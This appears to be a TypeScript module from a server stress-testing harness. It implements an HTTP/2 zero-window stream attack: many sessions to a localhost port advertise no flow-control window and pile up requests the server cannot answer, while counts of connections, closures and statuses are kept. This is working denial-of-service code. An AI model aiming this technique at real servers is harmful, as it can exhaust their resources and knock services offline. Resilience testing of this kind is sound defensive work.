import { connect, type ClientHttp2Session } from 'node:http2'
import { connect as connectTls } from 'node:tls'
import { setTimeout as pause } from 'node:timers/promises'
import { addressOf, note } from './connect.js'
import type { AttackOutcome, Tactic } from './tactic.js'

type StreamsTactic = Extract<Tactic, { kind: 'streams' }>

/** HTTP/2 sessions whose streams have no window, so that the server cannot send an answer. */
export async function attackByStreams(tactic: StreamsTactic, outcome: AttackOutcome, endAt: number): Promise<void> {
  await Promise.all(Array.from({ length: tactic.clients }, (_, client) => open(tactic, client, outcome, endAt)))
}

async function open(tactic: StreamsTactic, client: number, outcome: AttackOutcome, endAt: number): Promise<void> {
  const { target, request, streams, addresses } = tactic
  const localAddress = addressOf(client, addresses)
  const session: ClientHttp2Session = connect(`https://127.0.0.1:${String(target.port)}`, {
    settings: { initialWindowSize: 0 },
    createConnection: () =>
      connectTls({
        host: '127.0.0.1',
        port: target.port,
        rejectUnauthorized: false,
        ALPNProtocols: ['h2'],
        ...(localAddress === undefined ? {} : { localAddress }),
      }),
  })
  outcome.connections += 1
  let isOurs = false
  session.on('error', () => undefined)
  const closed = new Promise<void>((resolve) => {
    session.once('close', () => {
      if (!isOurs) outcome.closed += 1
      resolve()
    })
  })
  session.once('connect', () => {
    for (let stream = 0; stream < streams; stream += 1) {
      const headers = { ':method': request.method, ':path': request.path, 'content-type': 'application/json' }
      const asked = session.request(headers)
      asked.on('response', ({ ':status': status }) => note(outcome, String(status)))
      asked.on('error', () => undefined)
      asked.end(request.body)
    }
  })
  await Promise.race([closed, pause(Math.max(0, endAt - Date.now()))])
  isOurs = true
  session.destroy()
}
